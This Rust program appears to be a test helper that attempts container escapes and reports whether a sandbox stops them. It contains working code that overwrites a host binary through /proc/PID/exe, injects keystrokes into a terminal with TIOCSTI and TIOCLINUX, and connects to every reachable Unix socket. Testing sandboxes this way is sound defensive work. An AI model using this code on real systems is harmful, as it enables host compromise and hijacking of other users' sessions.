//! What an attacker runs inside a container. The first argument names the attack; the last line on standard
//! output is the outcome.
#![allow(clippy::print_stdout, reason = "the outcome is what this program is for")]

use std::fs::{File, OpenOptions};
use std::io::Write;
use std::os::fd::{AsRawFd, BorrowedFd};
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::path::{Path, PathBuf};
use std::process::ExitCode;
use std::time::Duration;

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let words: Vec<&str> = args.iter().map(String::as_str).collect();
    match words.as_slice() {
        ["hunt", release] => println!("outcome: {}", hunt(release)),
        ["push", text] => push(text),
        ["sockets", root] => println!("outcome: {}", sockets(Path::new(root))),
        _ => return ExitCode::FAILURE,
    }
    ExitCode::SUCCESS
}

/// Waits for a process in the container that runs another file than this one or the shell's, takes hold of
/// that file through /proc/PID/exe, lets the process go on by opening the FIFO `release`, and writes to the
/// file as soon as nobody runs it any more. Tells now and then that it may not look into a process.
fn hunt(release: &str) -> String {
    let own = ["/proc/self/exe", "/bin/busybox"].map(|path| identity(std::fs::metadata(path)));
    println!("ready");
    let mut denials = 0;
    let prey = loop {
        match foreign_program(&own, &mut denials) {
            Some(file) => break file,
            None => std::thread::yield_now(),
        }
    };
    println!("caught");
    let nonblocking = rustix::fs::OFlags::NONBLOCK.bits().cast_signed();
    let _reader = OpenOptions::new().read(true).custom_flags(nonblocking).open(release);
    let path = format!("/proc/self/fd/{}", prey.as_raw_fd());
    loop {
        match OpenOptions::new().write(true).open(&path) {
            Ok(mut file) => {
                let written = file.write_all(b"#!/bin/sh\necho overwritten\n");
                return format!("written: {written:?}");
            }
            Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) => {
                std::thread::sleep(Duration::from_millis(1));
            }
            Err(error) => return format!("refused: {error}"),
        }
    }
}

fn identity(found: std::io::Result<std::fs::Metadata>) -> Option<(u64, u64)> {
    found.ok().map(|found| (found.dev(), found.ino()))
}

fn foreign_program(own: &[Option<(u64, u64)>], denials: &mut u32) -> Option<File> {
    for entry in std::fs::read_dir("/proc").ok()?.flatten() {
        if !entry.file_name().to_string_lossy().bytes().all(|byte| byte.is_ascii_digit()) {
            continue;
        }
        match File::open(entry.path().join("exe")) {
            Ok(file) if !own.contains(&identity(file.metadata())) => return Some(file),
            Err(error) if error.kind() == std::io::ErrorKind::PermissionDenied => {
                *denials += 1;
                if denials.is_multiple_of(1000) {
                    println!("denied");
                }
            }
            _ => {}
        }
    }
    None
}

/// Pushes `text` into the input of whatever terminal is behind the first three descriptors or /dev/tty,
/// by every way there is.
fn push(text: &str) {
    let controlling = OpenOptions::new().read(true).write(true).open("/dev/tty");
    println!("/dev/tty: {}", controlling.as_ref().map_or_else(ToString::to_string, |_| "open".to_owned()));
    let stat = std::fs::read_to_string("/proc/self/stat").unwrap_or_default();
    let fields: Vec<&str> = stat.rsplit_once(") ").map_or(Vec::new(), |(_, rest)| rest.split(' ').collect());
    println!("session: {}", fields.get(3).unwrap_or(&"?"));
    println!("terminal: {}", fields.get(4).unwrap_or(&"?"));
    let fds = (0..3).chain(controlling.iter().map(AsRawFd::as_raw_fd));
    for fd in fds {
        // SAFETY: the descriptor is only lent, and lives as long as the program.
        #[expect(unsafe_code, reason = "the standard descriptors by number")]
        let terminal = unsafe { BorrowedFd::borrow_raw(fd) };
        println!("steal {fd}: {:?}", rustix::process::ioctl_tiocsctty(terminal));
        println!("push {fd}: {}", push_each(fd, text));
    }
}

fn push_each(fd: i32, text: &str) -> String {
    for byte in text.bytes() {
        // SAFETY: the request reads one byte, which lives through the call.
        #[expect(unsafe_code, reason = "rustix has no TIOCSTI")]
        let returned = unsafe { libc::ioctl(fd, libc::TIOCSTI as _, &raw const byte) };
        if returned != 0 {
            return std::io::Error::last_os_error().to_string();
        }
    }
    // Paste, as a console's mouse does (TIOCLINUX, TIOCL_PASTESEL).
    let paste: u8 = 3;
    // SAFETY: as above.
    #[expect(unsafe_code, reason = "rustix has no TIOCLINUX")]
    let _ = unsafe { libc::ioctl(fd, libc::TIOCLINUX as _, &raw const paste) };
    "pushed".to_owned()
}

/// Connects to every listening socket that the kernel names here, to those without a file by their names, and to all
/// that lie as files anywhere below / or below `root` behind any process: "how many of how many".
fn sockets(root: &Path) -> String {
    use std::os::linux::net::SocketAddrExt;
    use std::os::unix::net::{SocketAddr, UnixStream};
    let mut paths: Vec<PathBuf> = Vec::new();
    let (mut reached, mut tried) = (0, 0);
    for line in std::fs::read_to_string("/proc/net/unix").unwrap_or_default().lines().skip(1) {
        let Some(name) = line.split_whitespace().nth(7) else { continue };
        match name.strip_prefix('@') {
            Some(name) => {
                tried += 1;
                let address = SocketAddr::from_abstract_name(name);
                reached +=
                    usize::from(address.and_then(|address| UnixStream::connect_addr(&address)).is_ok());
            }
            None => paths.push(PathBuf::from(name)),
        }
    }
    find_sockets(Path::new("/"), &mut paths);
    for process in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
        let below = process.path().join("root").join(root.strip_prefix("/").unwrap_or(root));
        find_sockets(&below, &mut paths);
    }
    paths.sort();
    paths.dedup();
    for path in paths {
        tried += 1;
        reached += usize::from(UnixStream::connect(path).is_ok());
    }
    format!("{reached} of {tried}")
}

fn find_sockets(folder: &Path, found: &mut Vec<PathBuf>) {
    use std::os::unix::fs::FileTypeExt;
    for entry in std::fs::read_dir(folder).into_iter().flatten().flatten() {
        let Ok(kind) = entry.file_type() else { continue };
        let path = entry.path();
        if kind.is_socket() {
            found.push(path);
        } else if kind.is_dir() && path != Path::new("/proc") && path != Path::new("/sys") {
            find_sockets(&path, found);
        }
    }
}
